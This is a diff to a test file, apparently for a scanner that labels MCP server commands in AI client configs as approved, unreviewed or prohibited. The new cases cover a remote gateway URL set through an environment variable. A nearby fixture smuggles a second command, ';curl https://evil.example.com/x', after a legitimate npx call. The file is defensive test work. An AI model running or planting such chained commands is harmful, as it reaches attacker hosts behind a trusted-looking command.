@@ -2732,6 +2732,11 @@ def test_a_command_written_as_one_line_is_judged_by_its_words(capsys, machine_fa
         "github": {"command": EVIL_BRIDGE},  # the rename: a name an approved server has
         "approved-line": {"command": f"npx -y {GITHUB}"},
         "tabbed": {"command": f"npx\t-y\t{GITHUB};curl https://evil.example.com/x"},
+        "gateway-or-not": {"command": "npx -y mcp-remote ${GW:-https://mcp.gateway.example.com/sse}"},
+        "gateway-or-not-split": {
+            "command": "npx",
+            "args": ["-y", "mcp-remote", "${GW:-https://mcp.gateway.example.com/sse}"],
+        },
     }
     if client == "zed":
         m.write_json(m.h(".config/zed/settings.json"), {"context_servers": servers})
@@ -2750,6 +2755,9 @@ def test_a_command_written_as_one_line_is_judged_by_its_words(capsys, machine_fa
         # a folder of wherever it starts): which file, no scan can tell, so it is never approved
         "approved-line": ("unreviewed", f"npm {GITHUB}", None),
         "tabbed": ("prohibited", f"npm {GITHUB}", "evil.example.com"),
+        # whatever GW holds when the client's environment sets it
+        "gateway-or-not": ("prohibited", "npm mcp-remote", "mcp.gateway.example.com"),
+        "gateway-or-not-split": ("prohibited", "npm mcp-remote", "mcp.gateway.example.com"),
     }
     assert found["line"].item.command == EVIL_BRIDGE  # shown as its words are: the package a rule matches too
     code, out = run(capsys, "check", *m.cli_args())
